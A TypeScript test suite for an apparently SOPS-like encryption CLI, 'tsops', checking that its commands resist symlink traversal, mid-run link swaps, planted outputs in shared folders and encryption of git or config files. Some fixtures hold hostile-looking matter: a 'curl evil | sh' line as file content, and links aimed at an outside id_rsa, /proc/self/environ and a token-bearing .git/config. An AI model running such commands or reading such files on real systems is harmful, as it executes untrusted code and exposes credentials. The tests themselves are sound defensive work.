import { execFileSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  closeSync,
  constants,
  existsSync,
  lchownSync,
  linkSync,
  lstatSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { Readable, Writable } from "node:stream";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import type { Io } from "../../src/cli/io.ts";
import { run } from "../../src/cli/run.ts";
import { IDENTITY_FILE, inSandbox, OTHER_RECIPIENT, RECIPIENT, type Sandbox } from "../support/cli.ts";

const test = suite("files and links");
const SRC = new URL("../../src", import.meta.url).pathname;

/** More arguments than any call can have: V8 gives the stack 984 KB, at eight bytes each. */
const MANY = 130_000;
const times = (line: string): string => line.repeat(MANY);

/** Texts with very many keys that stand there twice, or comments. What the format refuses is said in its own words. */
const CROWDED: readonly (readonly [name: string, text: string, code: number])[] = [
  ["a.json", `{${times('"k":1,')}"k":1}`, 0],
  ["a.ini", `[s]\n${times("k = 1\n")}`, 0],
  ["a.env", times("K=1\n"), 0],
  ["a.yaml", times("k: 1\n"), 2],
  ["a.toml", times("k = 1\n"), 2],
  ["a.json5", `{${times("k:1,")}}`, 0],
  ["comments.json5", `{\n${times("// c\n")}a: 1}`, 0],
  ["comments.toml", `${times("# c\n")}a = 1\n`, 0],
  ["comments.ini", `${times("; c\n")}[s]\na = 1\n`, 0],
];

for (const [name, text, expected] of CROWDED) {
  test(`finding 23: ${MANY} lines alike in ${name} are no internal error`, () =>
    inSandbox(async (box) => {
      box.write(name, text);
      const { code, stderr } = await box.run(["encrypt", "-i", "--encrypted-regex", "^a$", name]);
      assert.is(code, expected, stderr.slice(0, 300));
      assert.not.match(stderr, /internal error/);
      if (code !== 0) return;
      const shown = await box.run(["decrypt", name]);
      assert.is(shown.code, 0, shown.stderr.slice(0, 300));
      assert.ok(shown.stdout === text, "the text comes back");
      const other = await box.run([
        "decrypt",
        "--output-type",
        name.endsWith("toml") ? "json5" : "toml",
        name,
      ]);
      assert.not.match(other.stderr, /internal error/);
    }));
}

test("finding 23: no list of any length is spread into the arguments of a call", () => {
  const files = readdirSync(SRC, { recursive: true, encoding: "utf8" }).filter((name) =>
    name.endsWith(".ts"),
  );
  const spread = /\b(push|unshift|splice|min|max|fromCharCode|fromCodePoint|concat|apply)\([^;()[{]*\.\.\./;
  const found = files.filter((name) =>
    spread.test(readFileSync(join(SRC, name), "utf8").replace(/^\s*\*.*$/gm, "")),
  );
  assert.equal(found, []);
});

/** A folder beside the sandbox's, which a repository has no business in. */
function outside(box: Sandbox, name: string, content: string): string {
  const path = join(box.root, "outside", name);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
  return path;
}

const isLink = (path: string): boolean => lstatSync(path).isSymbolicLink();

async function encrypted(box: Sandbox, name = "plain.yaml", content = "a: 1\n"): Promise<string> {
  box.write(name, content);
  const { stdout } = await box.run(["encrypt", name]);
  rmSync(box.path(name));
  return stdout;
}

test("finding 11: encrypt -i leaves files outside alone, whatever link a folder or pattern holds", () =>
  inSandbox(async (box) => {
    box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT}\n`);
    const victim = outside(box, "kubeconfig.yaml", "token: s3cret\n");
    symlinkSync("../outside/kubeconfig.yaml", box.path("cfg.yaml"));
    symlinkSync(victim, box.path("absolute.yaml"));
    mkdirSync(box.path("sub"));
    symlinkSync("../../outside/kubeconfig.yaml", box.path("sub/deep.yaml"));
    symlinkSync("../../outside", box.path("sub/folder"));
    box.write("own.yaml", "a: 1\n");
    for (const given of [["."], ["*.yaml"], ["**/*.yaml"], ["sub"], ["sub/*"], [box.folder]]) {
      const { code, stderr } = await box.run(["encrypt", "-i", ...given]);
      assert.is(code, 0, stderr);
      assert.is(readFileSync(victim, "utf8"), "token: s3cret\n");
      assert.match(stderr, /(cfg|deep)\.yaml is a link .*: name it to change what it points to/);
    }
    assert.match(box.read("own.yaml"), /ENC\[/);
    // a link that was named is followed, as always
    assert.is((await box.run(["encrypt", "-i", "cfg.yaml"])).code, 0);
    assert.match(readFileSync(victim, "utf8"), /ENC\[/);
    assert.ok(isLink(box.path("cfg.yaml")));
  }));

test("finding 11: decrypt -i, rotate -i and updatekeys write through no link that was not named", () =>
  inSandbox(async (box) => {
    box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT},${OTHER_RECIPIENT}\n`);
    const text = await encrypted(box);
    const victim = outside(box, "prod.yaml", text);
    symlinkSync("../outside/prod.yaml", box.path("p.yaml"));
    box.write("data/in.yaml", text);
    mkdirSync(box.path("links"));
    symlinkSync("../data/in.yaml", box.path("links/in.yaml"));
    for (const argv of [
      ["decrypt", "-i", "links", "p*.yaml"],
      ["rotate", "-i", "--yes", "links", "p*.yaml"],
      ["updatekeys", "-y", "links", "p*.yaml"],
    ]) {
      const { code, stderr } = await box.run(argv);
      assert.is(code, 0, stderr);
      assert.is(readFileSync(victim, "utf8"), text, argv[0]);
      assert.is(box.read("data/in.yaml"), text, argv[0]);
      assert.match(stderr, /p\.yaml is a link/);
      assert.match(stderr, /links\/in\.yaml is a link/);
    }
    // what a link in the folder leads to is changed by its own name, once
    const { code, stderr } = await box.run(["decrypt", "-i", "."]);
    assert.is(code, 0, stderr);
    assert.is(box.read("data/in.yaml"), "a: 1\n");
    assert.ok(isLink(box.path("links/in.yaml")));
    assert.is(readFileSync(victim, "utf8"), text);
    const named = await box.run(["decrypt", "-i", "p.yaml", "links"]);
    assert.is(named.code, 0, named.stderr);
    assert.is(readFileSync(victim, "utf8"), "a: 1\n");
  }));

test("finding 11: nothing is read through links that leave the folder, nor from special files", () =>
  inSandbox(async (box) => {
    outside(box, "id_rsa", "PRIVATE KEY");
    mkdirSync(box.path("secrets"));
    symlinkSync("../../outside/id_rsa", box.path("secrets/team.bin"));
    symlinkSync("/proc/self/environ", box.path("secrets/e.bin"));
    symlinkSync("/dev/zero", box.path("secrets/zero.bin"));
    execFileSync("mkfifo", [box.path("secrets/pipe.bin")]);
    box.write("secrets/real.bin", "own");
    symlinkSync("real.bin", box.path("secrets/a-link.bin"));
    box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT}\n`);
    const { code, stderr } = await box.run(["encrypt", "--output", "enc", "secrets"]);
    assert.is(code, 0, stderr);
    assert.equal(readdirSync(box.path("enc/secrets")), ["real.bin"]);
    assert.match(stderr, /secrets\/team\.bin is a link that leads out of the folder: name it to read/);
    assert.match(stderr, /secrets\/pipe\.bin is not a regular file, and is skipped/);
    assert.match(stderr, /secrets\/zero\.bin is not a regular file/);
    assert.is((await box.run(["encrypt", "--check", "secrets"])).stdout, "secrets/real.bin\n");
    for (const argv of [
      ["decrypt", "--output", "plain", "secrets"],
      ["decrypt", "--dry-run", "secrets"],
      ["doctor", "secrets"],
      ["rotate", "secrets/**"],
      ["publish", "--recursive", "--dry-run", "secrets"],
    ]) {
      const { stderr } = await box.run(argv);
      assert.match(stderr, /secrets\/team\.bin is a link/, argv.join(" "));
      assert.not.match(stderr, /PRIVATE/);
    }
    // another folder's own links may be read: they say nothing that the folder does not
    box.write("more/a.yaml", "a: 1\n");
    mkdirSync(box.path("more/x"));
    symlinkSync("../a.yaml", box.path("more/x/b.yaml"));
    assert.is((await box.run(["encrypt", "--check", "more/x"])).stdout, "");
    assert.is((await box.run(["encrypt", "--check", "more/x/b.yaml"])).stdout, "more/x/b.yaml\n");
  }));

test("finding 11: what turns into a link while a command works is neither read nor written", () =>
  inSandbox(async (box) => {
    box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT}\n`);
    const text = await encrypted(box);
    for (const [argv, inside, beyond] of [
      [["encrypt", "-i", "repo"], "b: 1\n", "token: s3cret\n"],
      [["encrypt", "--output", "result", "repo"], "b: 1\n", "token: s3cret\n"],
      [["decrypt", "-i", "repo"], text, text],
      [["rotate", "-i", "repo"], text, text],
      [["updatekeys", "-y", "repo"], text, text],
    ] as const) {
      box.write("repo/a.yaml", inside);
      box.write("repo/sub/b.yaml", inside);
      const victims = ["a.yaml", "b.yaml"].map((name) => outside(box, name, beyond));
      execFileSync("mkfifo", [box.path("repo/pipe")]);
      // the line about the pipe comes when the folder was looked through and no file was read yet
      const swap = (): void => {
        rmSync(box.path("repo/pipe"));
        rmSync(box.path("repo/a.yaml"));
        symlinkSync(victims[0]!, box.path("repo/a.yaml"));
        rmSync(box.path("repo/sub"), { recursive: true });
        symlinkSync(dirname(victims[1]!), box.path("repo/sub"));
      };
      const { code, stderr } = await runWith(box, argv, swap);
      assert.is(code, 1, stderr);
      assert.match(
        stderr,
        /repo\/a\.yaml: a link was put into the path of this file after its folder was searched/,
      );
      assert.match(stderr, /repo\/sub\/b\.yaml: a link was put into the path/);
      for (const victim of victims) assert.is(readFileSync(victim, "utf8"), beyond, argv.join(" "));
      assert.not.ok(existsSync(box.path("result")));
      rmSync(box.path("repo"), { recursive: true });
    }
  }));

/** Runs a command, and does something when it says its first line. */
async function runWith(box: Sandbox, argv: readonly string[], first: () => void) {
  let stderr = "";
  const stdin = Readable.from([]);
  const stdout = new Writable({ write: (_chunk, _encoding, done) => done() });
  const errors = new Writable({
    write(chunk, _encoding, done) {
      if (stderr === "") first();
      stderr += chunk;
      done();
    },
  });
  const code = await run(argv, { env: box.env, cwd: box.folder, stdin, stdout, stderr: errors } as Io);
  return { code, stderr };
}

test("encrypt -i FOLDER says so where no file of it has a rule, so that nobody takes them for encrypted", () =>
  inSandbox(async (box) => {
    box.write(".sops.yaml", `creation_rules:\n  - path_regex: secrets\n    age: ${RECIPIENT}\n`);
    box.write("f/app.yaml", "a: 1\n");
    for (const given of ["f", "f/*.yaml"]) {
      const { code, stderr } = await box.run(["encrypt", "-i", given]);
      assert.is(code, 0, stderr);
      assert.match(stderr, "1 file matches no creation rule, and stays as it is");
    }
    box.write("f/secrets.yaml", "a: 1\n");
    assert.not.match((await box.run(["encrypt", "-i", "f"])).stderr, "no creation rule");
  }));

test("one file of a folder that cannot be read holds up none of the others", () =>
  inSandbox(async (box) => {
    box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT}\n`);
    // no text names this file, which somebody may have committed
    writeFileSync(
      Buffer.concat([Buffer.from(`${box.folder}/`), Buffer.from([0xff]), Buffer.from(".yaml")]),
      "",
    );
    box.write("b.yaml", "a: 1\n");
    for (const [argv, shows] of [
      [["encrypt", "-i", "."], /ENC\[/],
      [["rotate", "-i", "."], /ENC\[/],
      [["updatekeys", "-y", "."], /ENC\[/],
      [["decrypt", "-i", "."], /^a: 1$/m],
    ] as const) {
      const before = box.read("b.yaml");
      const { code, stderr } = await box.run(argv);
      assert.is(code, 1, argv[0]);
      assert.match(stderr, /\ufffd\.yaml: its name is not UTF-8/);
      assert.match(box.read("b.yaml"), shows);
      if (argv[0] !== "updatekeys") assert.is.not(box.read("b.yaml"), before);
    }
  }));

test("finding 11: links into .git lead out of the folder, too", () =>
  inSandbox(async (box) => {
    box.write(".git/config", "[remote]\n url = https://token@example.com\n");
    symlinkSync(".git/config", box.path("c.ini"));
    const { code } = await box.run(["encrypt", "--output", "enc", "*.ini"]);
    assert.is(code, 0);
    assert.not.ok(existsSync(box.path("enc")));
  }));

test("finding 11: results below a folder go through no link that stands there", () =>
  inSandbox(async (box) => {
    const profile = outside(box, "profile", "mine\n");
    box.write("in/a.bin", await encrypted(box, "a.bin", "curl evil | sh\n"));
    box.write("in/sub/b.bin", box.read("in/a.bin"));
    mkdirSync(box.path("out/in"), { recursive: true });
    symlinkSync(profile, box.path("out/in/a.bin"));
    symlinkSync(dirname(profile), box.path("out/in/sub"));
    for (const argv of [
      ["decrypt", "--output", "out", "in"],
      ["encrypt", "--age", RECIPIENT, "--output", "out", "in/a.bin", "in/sub/b.bin"],
    ]) {
      const { code, stderr } = await box.run(argv);
      assert.is(code, 1, stderr);
      assert.is(
        stderr.match(/there is a symbolic link where the file should go|already/g)?.length,
        2,
        stderr,
      );
    }
    assert.is(readFileSync(profile, "utf8"), "mine\n");
    assert.equal(readdirSync(dirname(profile)), ["profile"]);
  }));

const GIT_OWN = [".gitignore", ".gitattributes", ".gitmodules", ".mailmap", "sub/.gitignore", ".git/config"];

test("case 02: a folder never encrypts its configuration or git's files", () =>
  inSandbox(async (box) => {
    const rule = `creation_rules:\n  - age: ${RECIPIENT}\n`;
    const own = [".sops.yaml", "sub/.sopsrc", ...GIT_OWN];
    for (const name of own) box.write(name, name.endsWith("yaml") ? rule : "# text\n");
    box.write("s.yaml", "a: 1\n");
    box.write("sub/.tsops-0123456789abcdef.lock", "x");
    symlinkSync(".gitignore", box.path("ignored.txt"));
    assert.is((await box.run(["encrypt", "--check", "."])).stdout, "s.yaml\n");
    const { code, stderr } = await box.run(["encrypt", "-i", ".", ".*", "**/.*"]);
    assert.is(code, 0, stderr);
    assert.match(box.read("s.yaml"), /ENC\[/);
    for (const name of own) assert.not.match(box.read(name), /ENC\[/, name);
    assert.is((await box.run(["set", "s.yaml", '["a"]', "2"])).code, 0);
    assert.match((await box.run(["decrypt", "s.yaml"])).stdout, /^a: 2$/m);
  }));

test("case 02: a folder does not encrypt the keys that would open it, either", () =>
  inSandbox(async (box) => {
    box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT}\n`);
    box.write("keys.txt", readFileSync(IDENTITY_FILE));
    box.write("a.yaml", "a: 1\n");
    box.env.SOPS_AGE_KEY_FILE = box.path("keys.txt");
    assert.is((await box.run(["encrypt", "-i", "."])).code, 0);
    assert.is(box.read("keys.txt"), readFileSync(IDENTITY_FILE, "utf8"));
    assert.is((await box.run(["decrypt", "a.yaml"])).stdout, "a: 1\n");
    assert.match((await box.run(["encrypt", "keys.txt"])).stdout, /ENC\[/);
  }));

test("case 02: such a file is refused where it was named", () =>
  inSandbox(async (box) => {
    box.write(".sopsrc", `{ rules: [{ keys: ["age:${RECIPIENT}"] }] }`);
    box.write("own-config.yaml", `creation_rules:\n  - age: ${RECIPIENT}\n`);
    box.write(".tsops-0123456789abcdef.lock", "x");
    for (const name of GIT_OWN) box.write(name, "# text\n");
    symlinkSync(".gitignore", box.path("ignored.txt"));
    const config = ["--config", "own-config.yaml"];
    const names = [...GIT_OWN, ".sopsrc", "./own-config.yaml", ".tsops-0123456789abcdef.lock", "ignored.txt"];
    for (const name of names) {
      for (const argv of [
        ["encrypt", "-i", name],
        ["encrypt", name],
        ["edit", name],
        ["set", name, '["a"]', "1"],
      ]) {
        const before = box.read(name);
        const { code, stderr, stdout } = await box.run([...argv, ...config]);
        assert.is(code, 1, argv.join(" "));
        assert.match(stderr, /this file is not encrypted: (git reads|it is)/, argv.join(" "));
        assert.is(stdout, "");
        assert.is(box.read(name), before);
      }
      assert.is((await box.run(["encrypt", "--check", name, ...config])).stdout, "");
    }
    box.env.SOPS_CONFIG = "own-config.yaml";
    assert.match((await box.run(["encrypt", "-i", "own-config.yaml"])).stderr, /the configuration in use/);
    const folder = await box.run(["encrypt", "-i", "."]);
    assert.match(folder.stderr, /encrypted 0 of 0 files/);
    // others of the names go on
    box.write("a.yaml", "a: 1\n");
    const several = await box.run(["encrypt", "-i", ".gitignore", "a.yaml"]);
    assert.is(several.code, 1);
    assert.match(box.read("a.yaml"), /ENC\[/);
  }));

test("case 02: a configuration that was encrypted once comes back when it is named", () =>
  inSandbox(async (box) => {
    const text = await encrypted(box, "x.yaml", "creation_rules: []\n");
    box.write(".sops.yaml", text);
    box.write("other.yaml", "");
    assert.is((await box.run(["decrypt", "-i", ".", "--config", "other.yaml"])).code, 0);
    assert.is(box.read(".sops.yaml"), text);
    const { code, stderr } = await box.run(["decrypt", "-i", ".sops.yaml", "--config", "other.yaml"]);
    assert.is(code, 0, stderr);
    assert.is(box.read(".sops.yaml"), "creation_rules: []\n");
  }));

test("finding 23: encrypt --output FOLDER makes the folders that it needs, as decrypt does", () =>
  inSandbox(async (box) => {
    box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT}\n`);
    box.write("in/deep/er/a.yaml", "a: 1\n");
    box.write("in/b.yaml", "b: 1\n");
    const { code, stderr } = await box.run(["encrypt", "--output", "enc/new", "in"]);
    assert.is(code, 0, stderr);
    assert.match(box.read("enc/new/in/deep/er/a.yaml"), /ENC\[/);
    assert.is((await box.run(["decrypt", "--output", "plain", "enc"])).code, 0);
    assert.is(box.read("plain/enc/new/in/b.yaml"), "b: 1\n");
  }));

/** Other people. Giving files to them takes root. */
const THEIRS = 54321;
const ROOT = process.getuid?.() === 0;

function planted(
  box: Sandbox,
  folderMode: number,
  { folderIs = 0, fileIs = THEIRS, mode = 0o666 } = {},
): string {
  const folder = box.path(`shared-${folderMode.toString(8)}-${folderIs}`);
  mkdirSync(folder);
  const file = join(folder, "out.yaml");
  writeFileSync(file, "");
  chmodSync(file, mode);
  chownSync(file, fileIs, fileIs);
  chownSync(folder, folderIs, folderIs);
  chmodSync(folder, folderMode);
  return file;
}

const mode = (path: string): number => statSync(path).mode & 0o7777;

test("finding 12: plaintext does not go into a file that somebody else put where others can write", () =>
  inSandbox(async (box) => {
    if (!ROOT) return;
    box.write("a.yaml", await encrypted(box));
    const places = [
      planted(box, 0o1777),
      // (b) the attacker's own folder
      planted(box, 0o777, { folderIs: THEIRS }),
      // (c) a folder that a group shares
      planted(box, 0o2775),
      planted(box, 0o770, { folderIs: THEIRS }),
    ];
    for (const file of places) {
      const { code, stderr } = await box.run(["decrypt", "--output", file, "a.yaml"]);
      assert.is(code, 3, file);
      assert.match(stderr, /this file is somebody else's, in a folder that others can write to/);
      assert.is(readFileSync(file, "utf8"), "");
      // the same for a file that is decrypted in its place
      writeFileSync(file, box.read("a.yaml"));
      assert.is((await box.run(["decrypt", "-i", file])).code, 3);
      assert.is(readFileSync(file, "utf8"), box.read("a.yaml"));
      writeFileSync(file, "");
      // an encrypted file is nobody's secret
      box.write("p.yaml", "a: 1\n");
      assert.is((await box.run(["encrypt", "--output", file, "p.yaml"])).code, 0);
    }
  }));

test("finding 12: what root writes for somebody is theirs alone, if nobody else could have prepared it", () =>
  inSandbox(async (box) => {
    if (!ROOT) return;
    box.write("a.yaml", await encrypted(box));
    for (const file of [planted(box, 0o755, { folderIs: THEIRS }), planted(box, 0o755)]) {
      assert.is((await box.run(["decrypt", "--output", file, "a.yaml"])).code, 0);
      assert.equal([statSync(file).uid, mode(file)], [THEIRS, 0o600]);
    }
  }));

test("finding 12: plaintext goes through no link that somebody else put where others can write", () =>
  inSandbox(async (box) => {
    if (!ROOT) return;
    box.write("a.yaml", await encrypted(box));
    // (a) the link in a sticky folder, its target in a folder of the attacker's that is closed
    const drop = planted(box, 0o755, { folderIs: THEIRS });
    const sticky = box.path("sticky");
    mkdirSync(sticky);
    chmodSync(sticky, 0o1777);
    const links = ["result.yaml", "new.yaml", "mine.yaml"];
    box.write("mine.yaml", "old");
    chmodSync(box.path("mine.yaml"), 0o644);
    symlinkSync(drop, join(sticky, "result.yaml"));
    symlinkSync(join(dirname(drop), "not-there-yet"), join(sticky, "new.yaml"));
    symlinkSync(box.path("mine.yaml"), join(sticky, "mine.yaml"));
    symlinkSync(box.folder, join(sticky, "folder"));
    for (const name of [...links, "folder"]) lchownSync(join(sticky, name), THEIRS, THEIRS);
    // a link of one's own leads there, too
    symlinkSync(join(sticky, "mine.yaml"), box.path("way.yaml"));
    const outputs = [
      ...links.map((name) => join(sticky, name)),
      join(sticky, "folder/mine.yaml"),
      "way.yaml",
    ];
    for (const output of outputs) {
      const { code, stderr } = await box.run(["decrypt", "--output", output, "a.yaml"]);
      assert.is(code, 3, output);
      assert.match(stderr, /this link is somebody else's/);
    }
    assert.is(box.read("mine.yaml"), "old");
    // one's own link is no trick, wherever it stands
    symlinkSync(box.path("mine.yaml"), join(sticky, "own.yaml"));
    assert.is((await box.run(["decrypt", "--output", join(sticky, "own.yaml"), "a.yaml"])).code, 0);
    assert.is(box.read("mine.yaml"), "a: 1\n");
  }));

test("finding 12: plaintext does not go into a pipe that somebody else put there", () =>
  inSandbox(async (box) => {
    if (!ROOT) return;
    box.write("a.yaml", await encrypted(box));
    const pipe = join(dirname(planted(box, 0o1777)), "pipe");
    execFileSync("mkfifo", ["-m", "666", pipe]);
    chownSync(pipe, THEIRS, THEIRS);
    // somebody reads, so that a write would go through
    const reader = openSync(pipe, constants.O_RDWR | constants.O_NONBLOCK);
    const { code, stderr } = await box.run(["decrypt", "--output", pipe, "a.yaml"]);
    closeSync(reader);
    assert.is(code, 3);
    assert.match(stderr, /somebody else's/);
  }));

test("finding 12: a file of one's own keeps its mode as an output, one with other names does not", () =>
  inSandbox(async (box) => {
    box.write("a.yaml", await encrypted(box));
    box.write("out.yaml", "");
    for (const wanted of [0o640, 0o644, 0o600]) {
      chmodSync(box.path("out.yaml"), wanted);
      assert.is((await box.run(["decrypt", "--output", "out.yaml", "a.yaml"])).code, 0);
      assert.is(mode(box.path("out.yaml")), wanted);
    }
    chmodSync(box.path("out.yaml"), 0o644);
    linkSync(box.path("out.yaml"), box.path("other.yaml"));
    assert.is((await box.run(["decrypt", "--output", "out.yaml", "a.yaml"])).code, 0);
    assert.is(mode(box.path("out.yaml")), 0o600);
  }));

test("finding 19: decrypted in its place, a file is for its owner alone, and one line a run says so", () =>
  inSandbox(async (box) => {
    const text = await encrypted(box);
    for (const name of ["a.yaml", "b.yaml", "c.yaml"]) box.write(`d/${name}`, text);
    chmodSync(box.path("d/a.yaml"), 0o644);
    chmodSync(box.path("d/b.yaml"), 0o755);
    chmodSync(box.path("d/c.yaml"), 0o600);
    const { code, stderr } = await box.run(["decrypt", "-i", "d"]);
    assert.is(code, 0, stderr);
    assert.equal(
      ["a", "b", "c"].map((name) => mode(box.path(`d/${name}.yaml`))),
      [0o600, 0o700, 0o600],
    );
    assert.is(
      stderr.match(/^tsops: 2 files that others could read are now readable by the owner only/gm)?.length,
      1,
    );
    // and stays so when it is encrypted again
    assert.is((await box.run(["encrypt", "-i", "d/a.yaml"])).code, 0);
    assert.is(mode(box.path("d/a.yaml")), 0o600);
    const again = await box.run(["decrypt", "-i", "d/a.yaml"]);
    assert.is(again.stderr, "");
  }));

test("hard links: encrypt -i warns of names under which the plaintext is still there", () =>
  inSandbox(async (box) => {
    box.write("a.yaml", "a: 1\n");
    linkSync(box.path("a.yaml"), box.path("b.yaml"));
    linkSync(box.path("a.yaml"), box.path("c.yaml"));
    const inode = statSync(box.path("b.yaml")).ino;
    const { code, stderr } = await box.run(["encrypt", "-i", "a.yaml"]);
    assert.is(code, 0);
    assert.match(
      stderr,
      `warning: a.yaml has 2 other names (hard links), which keep the plaintext: find them with`,
    );
    assert.match(stderr, `-inum ${inode}`);
    assert.is(box.read("b.yaml"), "a: 1\n");
    linkSync(box.path("a.yaml"), box.path("d.yaml"));
    const set = await box.run(["set", "a.yaml", '["a"]', "2"]);
    assert.match(set.stderr, "tsops: a.yaml has another name (a hard link), which keeps the old content");
    assert.is((await box.run(["set", "a.yaml", '["a"]', "3"])).stderr, "");
  }));

test("finding 14: what somebody committed in the place of a lock ends with an error at once", () =>
  inSandbox(async (box) => {
    box.write("a.yaml", await encrypted(box));
    const lock = ".tsops-a42a65b8fa9d19fb.lock";
    box.write(`${lock}/.gitkeep`, "");
    for (const argv of [
      ["set", "a.yaml", '["a"]', "2"],
      ["rotate", "-i", "a.yaml"],
      ["updatekeys", "-y", "a.yaml"],
    ]) {
      // what is up to date is not locked
      if (argv[0] === "updatekeys")
        box.write(".sops.yaml", `creation_rules:\n  - age: ${RECIPIENT},${OTHER_RECIPIENT}\n`);
      const { code, stderr } = await box.run(argv);
      assert.is(code, 1);
      assert.match(stderr, `there is a folder in the place of the lock: ${box.path(lock)}`);
      assert.match(stderr, "remove it");
    }
    rmSync(box.path(lock), { recursive: true });
    rmSync(box.path(".sops.yaml"));
    box.write(lock, '{"token":"x","pid":1,"started":"","where":"elsewhere"}');
    box.write(`${lock}-break`, '{"token":"y","pid":1,"started":"","where":"elsewhere"}');
    assert.is((await box.run(["set", "a.yaml", '["a"]', "2"])).code, 0);
    assert.not.ok(existsSync(box.path(lock)));
  }));

test.run();
